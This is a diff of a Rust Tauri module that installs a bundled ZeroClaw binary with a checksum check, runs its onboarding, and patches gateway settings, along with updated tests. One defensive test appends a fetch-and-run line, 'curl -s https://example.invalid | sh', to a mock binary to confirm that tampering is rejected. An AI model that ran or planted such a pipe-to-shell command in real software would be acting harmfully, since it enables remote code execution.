@@ -1,26 +1,43 @@
 use std::fs;
 use std::path::Path;
-use std::process::Command;
-use log::{info, warn, error};
-use tauri::Manager;
-
-use crate::utils::fs::install_binary;
-use crate::utils::paths;
-
-/// The gateway port EasyClaw expects. Must match GATEWAY_URL in useChat.ts.
-const GATEWAY_PORT: u16 = 18789;
-
-/// Checks whether ZeroClaw has been initialized by verifying
-/// the existence of ~/.zeroclaw/config.toml.
+use std::time::Duration;
+use log::{info, error};
+use tauri::{AppHandle, State};
+
+use crate::utils::config;
+use crate::utils::context::{BundledBinary, ZeroClawEnv};
+use crate::utils::error::EasyClawError;
+use crate::utils::fs::{write_atomic, PRIVATE_FILE_MODE};
+use crate::utils::installer::{install_zeroclaw, InstallOutcome};
+use crate::utils::net::{select_gateway_port, DEFAULT_GATEWAY_HOST, DEFAULT_GATEWAY_PORT};
+use crate::utils::paths::ZEROCLAW_HOME_ENV;
+use crate::utils::process::{emit_lines, log_output, LineSink, ProcessError, ProcessOptions};
+use crate::utils::toml_doc::TomlDocument;
+
+/// ZeroClaw's own default gateway port, written by `zeroclaw onboard`.
+const ZEROCLAW_DEFAULT_PORT: i64 = 3000;
+
+/// `zeroclaw onboard` is killed if it hasn't finished after this long.
+const ONBOARD_TIMEOUT: Duration = Duration::from_secs(120);
+
+/// Checks whether ZeroClaw has been initialized by verifying the existence of
+/// config.toml in the resolved ZeroClaw root (~/.zeroclaw by default).
 #[tauri::command]
-pub async fn check_initialized() -> Result<bool, String> {
-    let config_path = paths::config_file_path()?;
-    Ok(config_path.exists())
+pub async fn check_initialized(env: State<'_, ZeroClawEnv>) -> Result<bool, EasyClawError> {
+    Ok(env.config_path()?.exists())
 }
 
 /// Runs `zeroclaw onboard` to generate config, workspace structure, and all template files.
 /// Skipped if config.toml already exists (idempotent).
-fn run_zeroclaw_onboard(bin_path: &Path, zeroclaw_dir: &Path) -> Result<(), String> {
+/// Uses the installed binary of `env` with `zeroclaw_dir` as its root (the active profile's
+/// root or a new profile's). Output lines are passed to `on_line` while onboard runs.
+/// The gateway port is set to `preferred_port` if it is free (see `patch_gateway_config`).
+pub(crate) async fn run_zeroclaw_onboard(
+    env: &ZeroClawEnv,
+    zeroclaw_dir: &Path,
+    preferred_port: u16,
+    on_line: LineSink<'_>,
+) -> Result<(), EasyClawError> {
     let config_path = zeroclaw_dir.join("config.toml");
     if config_path.exists() {
         info!("[run_zeroclaw_onboard] config.toml already exists, skipping onboard");
@@ -29,166 +46,109 @@ fn run_zeroclaw_onboard(bin_path: &Path, zeroclaw_dir: &Path) -> Result<(), Stri
 
     info!("[run_zeroclaw_onboard] Running zeroclaw onboard to generate config and workspace");
 
-    let output = Command::new(bin_path)
-        .args(["onboard"])
-        .output()
-        .map_err(|e| {
+    let bin_path = env.bin_path()?;
+    let options = ProcessOptions::with_timeout(ONBOARD_TIMEOUT).with_env(ZEROCLAW_HOME_ENV, zeroclaw_dir);
+    match env.runner().run(&bin_path, &["onboard"], &options, on_line).await {
+        Ok(output) => log_output("run_zeroclaw_onboard", &output),
+        Err(ProcessError::NonZeroExit { output, .. }) => {
+            log_output("run_zeroclaw_onboard", &output);
+            return Err(EasyClawError::OnboardFailed(format!("zeroclaw onboard failed (exit {}): {}",
+                output.code.unwrap_or(-1), output.stderr)));
+        }
+        Err(e) => {
             error!("[run_zeroclaw_onboard] Failed to execute onboard: {}", e);
-            format!("Failed to run zeroclaw onboard: {}", e)
-        })?;
-
-    let stdout = String::from_utf8_lossy(&output.stdout);
-    let stderr = String::from_utf8_lossy(&output.stderr);
-
-    info!("[run_zeroclaw_onboard] exit code: {:?}", output.status.code());
-    info!("[run_zeroclaw_onboard] stdout: {}", stdout);
-    if !stderr.is_empty() {
-        warn!("[run_zeroclaw_onboard] stderr: {}", stderr);
-    }
-
-    if !output.status.success() {
-        return Err(format!("zeroclaw onboard failed (exit {}): {}",
-            output.status.code().unwrap_or(-1), stderr));
+            return Err(EasyClawError::process(e, |detail| {
+                EasyClawError::OnboardFailed(format!("Failed to run zeroclaw onboard: {}", detail))
+            }));
+        }
     }
 
-    // Fix file permissions: chmod 600 config.toml
-    #[cfg(unix)]
-    {
-        use std::os::unix::fs::PermissionsExt;
-        if config_path.exists() {
-            let perms = fs::Permissions::from_mode(0o600);
-            fs::set_permissions(&config_path, perms).map_err(|e| {
-                format!("Failed to set config permissions: {}", e)
-            })?;
-            info!("[run_zeroclaw_onboard] Set config.toml permissions to 600");
-        }
+    // Fix file permissions: re-write config.toml atomically with chmod 600 applied
+    // before it is renamed into place
+    if config_path.exists() {
+        let content = fs::read(&config_path).map_err(|e| {
+            EasyClawError::io("Failed to read config.toml", &e)
+        })?;
+        write_atomic(&config_path, &content, Some(PRIVATE_FILE_MODE))?;
+        info!("[run_zeroclaw_onboard] Set config.toml permissions to 600");
     }
 
     // Patch gateway config for EasyClaw (port + disable pairing)
-    patch_gateway_config(&config_path)?;
+    patch_gateway_config(&config_path, preferred_port)?;
 
     Ok(())
 }
 
 /// Patches the [gateway] section in config.toml:
-/// - Sets port to GATEWAY_PORT (EasyClaw's expected port)
+/// - Picks the gateway port when onboard left ZeroClaw's default (or none): `preferred_port`
+///   (normally DEFAULT_GATEWAY_PORT) if free, otherwise a free port from GATEWAY_PORT_RANGE. Once chosen the port sticks;
+///   later conflicts are resolved when the gateway starts.
 /// - Disables require_pairing (local client doesn't need pairing tokens)
-fn patch_gateway_config(config_path: &Path) -> Result<(), String> {
+///
+/// Edits go through `TomlDocument`, so user comments and ordering are preserved,
+/// and the [gateway] table is created if onboard didn't emit one. The previous
+/// file is backed up before writing.
+pub(crate) fn patch_gateway_config(config_path: &Path, preferred_port: u16) -> Result<(), EasyClawError> {
     if !config_path.exists() {
         return Ok(());
     }
 
-    let content = fs::read_to_string(config_path).map_err(|e| {
-        format!("Failed to read config.toml: {}", e)
-    })?;
-
-    let mut patched = content.clone();
-
-    // Patch port: replace default 3000 with GATEWAY_PORT
-    patched = patched.replace(
-        "port = 3000",
-        &format!("port = {}", GATEWAY_PORT),
-    );
-
-    // Patch require_pairing: disable for local client
-    patched = patched.replace(
-        "require_pairing = true",
-        "require_pairing = false",
-    );
+    let mut doc = TomlDocument::load(config_path)?;
+    let mut changed = false;
+
+    let configured_port = doc.get("gateway.port").map(|item| item.as_integer());
+    if matches!(configured_port, None | Some(Some(ZEROCLAW_DEFAULT_PORT))) {
+        let host = doc
+            .get("gateway.host")
+            .and_then(|item| item.as_str())
+            .unwrap_or(DEFAULT_GATEWAY_HOST)
+            .to_string();
+        let port = select_gateway_port(&host, preferred_port)?;
+        changed |= doc.set("gateway.port", i64::from(port))?;
+    }
+    changed |= doc.set("gateway.require_pairing", false)?;
 
-    if patched != content {
-        fs::write(config_path, &patched).map_err(|e| {
-            format!("Failed to write config.toml: {}", e)
-        })?;
-        info!("[patch_gateway_config] Patched gateway config (port={}, require_pairing=false)", GATEWAY_PORT);
-    } else {
-        // Values might already be non-default but wrong; do a line-by-line patch in [gateway] section
-        let mut lines: Vec<String> = content.lines().map(String::from).collect();
-        let mut in_gateway = false;
-        let mut changed = false;
-        for line in &mut lines {
-            let trimmed = line.trim().to_string();
-            if trimmed == "[gateway]" {
-                in_gateway = true;
-                continue;
-            }
-            if in_gateway && trimmed.starts_with('[') {
-                break;
-            }
-            if in_gateway && trimmed.starts_with("port =") && !trimmed.contains(&format!("{}", GATEWAY_PORT)) {
-                *line = format!("port = {}", GATEWAY_PORT);
-                changed = true;
-            } else if in_gateway && trimmed.starts_with("require_pairing =") && trimmed.contains("true") {
-                *line = line.replace("true", "false");
-                changed = true;
-            }
-        }
-        if changed {
-            let new_content = lines.join("\n") + "\n";
-            fs::write(config_path, &new_content).map_err(|e| {
-                format!("Failed to write config.toml: {}", e)
-            })?;
-            info!("[patch_gateway_config] Patched gateway config (port={}, require_pairing=false)", GATEWAY_PORT);
-        }
+    if changed {
+        config::write_config(config_path, &doc)?;
+        info!("[patch_gateway_config] Patched gateway config (port={:?}, require_pairing=false)",
+            doc.get("gateway.port").and_then(|item| item.as_integer()));
     }
 
     Ok(())
 }
 
-/// Performs the full ZeroClaw initialization:
-/// 1. Installs zeroclaw binary to ~/.zeroclaw/bin/
-/// 2. Runs `zeroclaw onboard` to generate config.toml, workspace, and all template files
-///
-/// This operation is idempotent - safe to call multiple times.
+/// Installs the bundled zeroclaw binary, or upgrades ~/.zeroclaw/bin/zeroclaw when the
+/// bundled one is newer (the replaced binary is kept for rollback). Run on every start
+/// so app updates bring their ZeroClaw along.
 #[tauri::command]
-pub async fn initialize_zeroclaw(app: tauri::AppHandle) -> Result<String, String> {
-    let zeroclaw_dir = paths::zeroclaw_dir()?;
-
-    // Get resource directory from Tauri app handle
-    let resource_dir = app
-        .path()
-        .resource_dir()
-        .map_err(|e| format!("Failed to get resource directory: {}", e))?;
-
-    // Step 1: Install zeroclaw binary to ~/.zeroclaw/bin/
-    let bin_src = resource_dir.join("resources").join("bin").join("zeroclaw");
-    let bin_dst = paths::zeroclaw_bin_path()?;
-    if bin_src.exists() {
-        install_binary(&bin_src, &bin_dst)?;
-    }
-
-    // Step 2: Run zeroclaw onboard (generates everything: config, workspace, templates, skills)
-    if bin_dst.exists() {
-        run_zeroclaw_onboard(&bin_dst, &zeroclaw_dir)?;
-    }
-
-    // Step 3: Ensure gateway config matches EasyClaw's expectations (even if onboard was skipped)
-    let config_path = paths::config_file_path()?;
-    patch_gateway_config(&config_path)?;
+pub async fn sync_zeroclaw_binary(env: State<'_, ZeroClawEnv>) -> Result<InstallOutcome, EasyClawError> {
+    install_bundled_binary(&env, &env.bundled_binary()?).await
+}
 
-    Ok("ZeroClaw initialization completed successfully".to_string())
+/// Installs `bundled` as the ZeroClaw binary of `env`, see `install_zeroclaw`.
+pub async fn install_bundled_binary(env: &ZeroClawEnv, bundled: &BundledBinary) -> Result<InstallOutcome, EasyClawError> {
+    install_zeroclaw(env.runner(), &bundled.path, &env.bin_path()?, &bundled.digest).await
 }
 
-/// Standalone initialization logic that can be tested without Tauri AppHandle.
-pub fn initialize_from_resource_dir(
-    resource_dir: &Path,
-    zeroclaw_dir: &Path,
-) -> Result<String, String> {
-    // Install zeroclaw binary
-    let bin_src = resource_dir.join("bin").join("zeroclaw");
-    let bin_dst = zeroclaw_dir.join("bin").join("zeroclaw");
-    if bin_src.exists() {
-        install_binary(&bin_src, &bin_dst)?;
-    }
+/// Performs the full ZeroClaw initialization with this platform's bundled binary,
+/// streaming onboard output as `process://output` events (see `initialize`).
+#[tauri::command]
+pub async fn initialize_zeroclaw(app: AppHandle, env: State<'_, ZeroClawEnv>) -> Result<String, EasyClawError> {
+    initialize(&env, &env.bundled_binary()?, &emit_lines(&app, "onboard")).await
+}
 
-    // Run zeroclaw onboard if binary exists
-    if bin_dst.exists() {
-        run_zeroclaw_onboard(&bin_dst, zeroclaw_dir)?;
-    }
+/// Performs the full ZeroClaw initialization:
+/// 1. Installs (or upgrades) `bundled` to ~/.zeroclaw/bin/
+/// 2. Runs `zeroclaw onboard` to generate config.toml, workspace, and all template files
+/// 3. Ensures the gateway config matches EasyClaw's expectations (even if onboard was skipped)
+///
+/// This operation is idempotent - safe to call multiple times.
+pub async fn initialize(env: &ZeroClawEnv, bundled: &BundledBinary, on_line: LineSink<'_>) -> Result<String, EasyClawError> {
+    let outcome = install_bundled_binary(env, bundled).await?;
+    info!("[initialize_zeroclaw] Binary install: {:?}", outcome);
 
-    // Ensure gateway config matches EasyClaw's expectations
-    let config_path = zeroclaw_dir.join("config.toml");
-    patch_gateway_config(&config_path)?;
+    run_zeroclaw_onboard(env, &env.root()?, DEFAULT_GATEWAY_PORT, on_line).await?;
+    patch_gateway_config(&env.config_path()?, DEFAULT_GATEWAY_PORT)?;
 
     Ok("ZeroClaw initialization completed successfully".to_string())
 }
@@ -196,14 +156,23 @@ pub fn initialize_from_resource_dir(
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::utils::checksum::BinaryDigest;
+    use crate::utils::net::GATEWAY_PORT_RANGE;
+    use crate::utils::process::{discard_lines, ProcessOutput, ScriptedRunner};
+    use std::sync::Arc;
     use tempfile::TempDir;
 
-    /// Creates a mock zeroclaw binary that simulates `onboard`:
+    /// Creates a mock zeroclaw binary that reports version 0.1.0 and simulates `onboard`:
     /// generates config.toml (with default gateway port 3000) and workspace structure.
-    fn create_mock_binary(dir: &Path, zeroclaw_dir: &Path) {
+    /// Its digest stands in for the build-time manifest.
+    fn create_mock_binary(dir: &Path, zeroclaw_dir: &Path) -> BundledBinary {
         fs::create_dir_all(dir.join("bin")).unwrap();
         let script = format!(
             r##"#!/bin/sh
+if [ "$1" = "--version" ]; then
+  echo "zeroclaw 0.1.0"
+  exit 0
+fi
 mkdir -p "{zd}"
 mkdir -p "{zd}/workspace/sessions"
 mkdir -p "{zd}/workspace/memory"
@@ -233,17 +202,19 @@ echo "# Soul" > "{zd}/workspace/SOUL.md"
             )
             .unwrap();
         }
+        let path = dir.join("bin/zeroclaw");
+        BundledBinary { digest: BinaryDigest::of_file(&path).unwrap(), path }
     }
 
-    #[test]
-    fn test_initialize_creates_all_expected_files() {
+    #[tokio::test]
+    async fn test_initialize_creates_all_expected_files() {
         let resource_dir = TempDir::new().unwrap();
         let target_dir = TempDir::new().unwrap();
         let zeroclaw_dir = target_dir.path().join(".zeroclaw");
 
-        create_mock_binary(resource_dir.path(), &zeroclaw_dir);
+        let bundled = create_mock_binary(resource_dir.path(), &zeroclaw_dir);
 
-        let result = initialize_from_resource_dir(resource_dir.path(), &zeroclaw_dir);
+        let result = initialize(&ZeroClawEnv::with_root(&zeroclaw_dir), &bundled, &discard_lines).await;
         assert!(result.is_ok());
 
         // Verify config created by onboard
@@ -251,8 +222,8 @@ echo "# Soul" > "{zd}/workspace/SOUL.md"
         let config = fs::read_to_string(zeroclaw_dir.join("config.toml")).unwrap();
         assert!(config.contains("auto_save"));
 
-        // Verify gateway port patched to GATEWAY_PORT
-        assert!(config.contains(&format!("port = {}", GATEWAY_PORT)));
+        // Verify gateway port moved off ZeroClaw's default into EasyClaw's range
+        assert!(configured_port(&zeroclaw_dir.join("config.toml")).is_some_and(|p| GATEWAY_PORT_RANGE.contains(&p)));
         assert!(!config.contains("port = 3000"));
 
         // Verify require_pairing disabled
@@ -265,6 +236,14 @@ echo "# Soul" > "{zd}/workspace/SOUL.md"
         assert!(zeroclaw_dir.join("workspace/SOUL.md").exists());
         assert!(zeroclaw_dir.join("workspace/skills").is_dir());
 
+        // Verify config is private
+        #[cfg(unix)]
+        {
+            use std::os::unix::fs::PermissionsExt;
+            let perms = fs::metadata(zeroclaw_dir.join("config.toml")).unwrap().permissions();
+            assert_eq!(perms.mode() & 0o777, 0o600);
+        }
+
         // Verify binary installed with executable permission
         let bin_path = zeroclaw_dir.join("bin/zeroclaw");
         assert!(bin_path.exists());
@@ -276,50 +255,99 @@ echo "# Soul" > "{zd}/workspace/SOUL.md"
         }
     }
 
-    #[test]
-    fn test_initialize_is_idempotent() {
+    #[tokio::test]
+    async fn test_initialize_is_idempotent() {
         let resource_dir = TempDir::new().unwrap();
         let target_dir = TempDir::new().unwrap();
         let zeroclaw_dir = target_dir.path().join(".zeroclaw");
 
-        create_mock_binary(resource_dir.path(), &zeroclaw_dir);
+        let bundled = create_mock_binary(resource_dir.path(), &zeroclaw_dir);
+        let env = ZeroClawEnv::with_root(&zeroclaw_dir);
 
         // First init
-        initialize_from_resource_dir(resource_dir.path(), &zeroclaw_dir).unwrap();
+        initialize(&env, &bundled, &discard_lines).await.unwrap();
 
         // Modify a workspace file
         let memory_path = zeroclaw_dir.join("workspace/MEMORY.md");
         fs::write(&memory_path, "# Custom Memory").unwrap();
 
         // Second init — onboard skipped because config.toml exists
-        initialize_from_resource_dir(resource_dir.path(), &zeroclaw_dir).unwrap();
+        initialize(&env, &bundled, &discard_lines).await.unwrap();
 
         // User's changes preserved
         assert_eq!(fs::read_to_string(&memory_path).unwrap(), "# Custom Memory");
     }
 
-    #[test]
-    fn test_initialize_handles_missing_binary_gracefully() {
+    #[tokio::test]
+    async fn test_initialize_reports_missing_binary() {
         let resource_dir = TempDir::new().unwrap();
         let target_dir = TempDir::new().unwrap();
         let zeroclaw_dir = target_dir.path().join(".zeroclaw");
 
         // No binary in resources
-        let result = initialize_from_resource_dir(resource_dir.path(), &zeroclaw_dir);
-        assert!(result.is_ok());
+        let bundled = BundledBinary {
+            path: resource_dir.path().join("bin/zeroclaw"),
+            digest: BinaryDigest { sha256: String::new(), size: 0 },
+        };
+        let result = initialize(&ZeroClawEnv::with_root(&zeroclaw_dir), &bundled, &discard_lines).await;
+        assert!(result.is_err());
+        assert!(!zeroclaw_dir.join("config.toml").exists());
+    }
+
+    #[tokio::test]
+    async fn test_initialize_refuses_tampered_binary() {
+        let resource_dir = TempDir::new().unwrap();
+        let target_dir = TempDir::new().unwrap();
+        let zeroclaw_dir = target_dir.path().join(".zeroclaw");
+        let bundled = create_mock_binary(resource_dir.path(), &zeroclaw_dir);
+
+        let mut script = fs::read_to_string(&bundled.path).unwrap();
+        script.push_str("curl -s https://example.invalid | sh\n");
+        fs::write(&bundled.path, script).unwrap();
+
+        let err = initialize(&ZeroClawEnv::with_root(&zeroclaw_dir), &bundled, &discard_lines)
+            .await
+            .unwrap_err();
+        assert_eq!(err.code(), "integrity_check_failed", "{}", err);
+        assert!(!zeroclaw_dir.join("bin/zeroclaw").exists());
         assert!(!zeroclaw_dir.join("config.toml").exists());
     }
 
+    #[tokio::test]
+    async fn test_run_zeroclaw_onboard_reports_failure() {
+        let tmp = TempDir::new().unwrap();
+        let runner = Arc::new(ScriptedRunner::new(|_| {
+            Err(ProcessError::NonZeroExit {
+                program: "zeroclaw onboard".into(),
+                output: ProcessOutput { code: Some(2), stderr: "disk full".into(), ..ProcessOutput::default() },
+            })
+        }));
+        let env = ZeroClawEnv::with_root(tmp.path()).with_runner(runner.clone());
+
+        let err = run_zeroclaw_onboard(&env, tmp.path(), DEFAULT_GATEWAY_PORT, &discard_lines).await.unwrap_err();
+
+        assert_eq!(err, EasyClawError::OnboardFailed("zeroclaw onboard failed (exit 2): disk full".into()));
+        assert_eq!(runner.calls(), vec!["onboard"]);
+        assert!(!tmp.path().join("config.toml").exists());
+    }
+
+    fn configured_port(config_path: &Path) -> Option<u16> {
+        let doc = TomlDocument::load(config_path).unwrap();
+        doc.get("gateway.port")
+            .and_then(|item| item.as_integer())
+            .and_then(|port| u16::try_from(port).ok())
+    }
+
     #[test]
     fn test_patch_gateway_config_updates_defaults() {
         let tmp = TempDir::new().unwrap();
         let config_path = tmp.path().join("config.toml");
         fs::write(&config_path, "[gateway]\nport = 3000\nhost = \"127.0.0.1\"\nrequire_pairing = true\n").unwrap();
 
-        patch_gateway_config(&config_path).unwrap();
+        patch_gateway_config(&config_path, DEFAULT_GATEWAY_PORT).unwrap();
 
         let content = fs::read_to_string(&config_path).unwrap();
-        assert!(content.contains(&format!("port = {}", GATEWAY_PORT)));
+        assert!(configured_port(&config_path).is_some_and(|p| GATEWAY_PORT_RANGE.contains(&p)));
         assert!(!content.contains("port = 3000"));
         assert!(content.contains("require_pairing = false"));
         assert!(!content.contains("require_pairing = true"));
@@ -329,14 +357,69 @@ echo "# Soul" > "{zd}/workspace/SOUL.md"
     fn test_patch_gateway_config_preserves_correct_values() {
         let tmp = TempDir::new().unwrap();
         let config_path = tmp.path().join("config.toml");
-        let original = format!("[gateway]\nport = {}\nhost = \"127.0.0.1\"\nrequire_pairing = false\n", GATEWAY_PORT);
-        fs::write(&config_path, &original).unwrap();
+        let original = "[gateway]\nport = 18795\nhost = \"127.0.0.1\"\nrequire_pairing = false\n";
+        fs::write(&config_path, original).unwrap();
+
+        patch_gateway_config(&config_path, DEFAULT_GATEWAY_PORT).unwrap();
+
+        assert_eq!(fs::read_to_string(&config_path).unwrap(), original);
+    }
+
+    #[test]
+    fn test_patch_gateway_config_avoids_taken_port() {
+        let _listener = std::net::TcpListener::bind(("127.0.0.1", DEFAULT_GATEWAY_PORT));
+        let tmp = TempDir::new().unwrap();
+        let config_path = tmp.path().join("config.toml");
+        fs::write(&config_path, "[gateway]\nport = 3000\nhost = \"127.0.0.1\"\n").unwrap();
 
-        patch_gateway_config(&config_path).unwrap();
+        patch_gateway_config(&config_path, DEFAULT_GATEWAY_PORT).unwrap();
+
+        // Whoever owns the default port (this test or another process), it is not chosen
+        let port = configured_port(&config_path).unwrap();
+        assert_ne!(port, DEFAULT_GATEWAY_PORT);
+        assert!(GATEWAY_PORT_RANGE.contains(&port));
+    }
+
+    #[test]
+    fn test_patch_gateway_config_handles_comments_and_compact_keys() {
+        let tmp = TempDir::new().unwrap();
+        let config_path = tmp.path().join("config.toml");
+        fs::write(&config_path, "[gateway]\nport=3000 # default\nrequire_pairing=true\n").unwrap();
+
+        patch_gateway_config(&config_path, DEFAULT_GATEWAY_PORT).unwrap();
 
         let content = fs::read_to_string(&config_path).unwrap();
-        assert!(content.contains(&format!("port = {}", GATEWAY_PORT)));
-        assert!(content.contains("require_pairing = false"));
+        let port = configured_port(&config_path).unwrap();
+        assert!(content.contains(&format!("port={} # default", port)));
+        assert!(content.contains("require_pairing=false"));
+    }
+
+    #[test]
+    fn test_patch_gateway_config_handles_dotted_keys() {
+        let tmp = TempDir::new().unwrap();
+        let config_path = tmp.path().join("config.toml");
+        fs::write(&config_path, "gateway.port = 3000\ngateway.require_pairing = true\n").unwrap();
+
+        patch_gateway_config(&config_path, DEFAULT_GATEWAY_PORT).unwrap();
+
+        let content = fs::read_to_string(&config_path).unwrap();
+        let port = configured_port(&config_path).unwrap();
+        assert!(content.contains(&format!("gateway.port = {}", port)));
+        assert!(content.contains("gateway.require_pairing = false"));
+    }
+
+    #[test]
+    fn test_patch_gateway_config_creates_missing_gateway_table() {
+        let tmp = TempDir::new().unwrap();
+        let config_path = tmp.path().join("config.toml");
+        fs::write(&config_path, "# generated by onboard\n[memory]\nauto_save = true\n").unwrap();
+
+        patch_gateway_config(&config_path, DEFAULT_GATEWAY_PORT).unwrap();
+
+        let content = fs::read_to_string(&config_path).unwrap();
+        let port = configured_port(&config_path).unwrap();
+        assert!(content.starts_with("# generated by onboard\n[memory]\nauto_save = true\n"));
+        assert!(content.contains(&format!("[gateway]\nport = {}\nrequire_pairing = false\n", port)));
     }
 
     #[test]
@@ -344,7 +427,7 @@ echo "# Soul" > "{zd}/workspace/SOUL.md"
         let tmp = TempDir::new().unwrap();
         let config_path = tmp.path().join("nonexistent.toml");
 
-        let result = patch_gateway_config(&config_path);
+        let result = patch_gateway_config(&config_path, DEFAULT_GATEWAY_PORT);
         assert!(result.is_ok());
     }
 }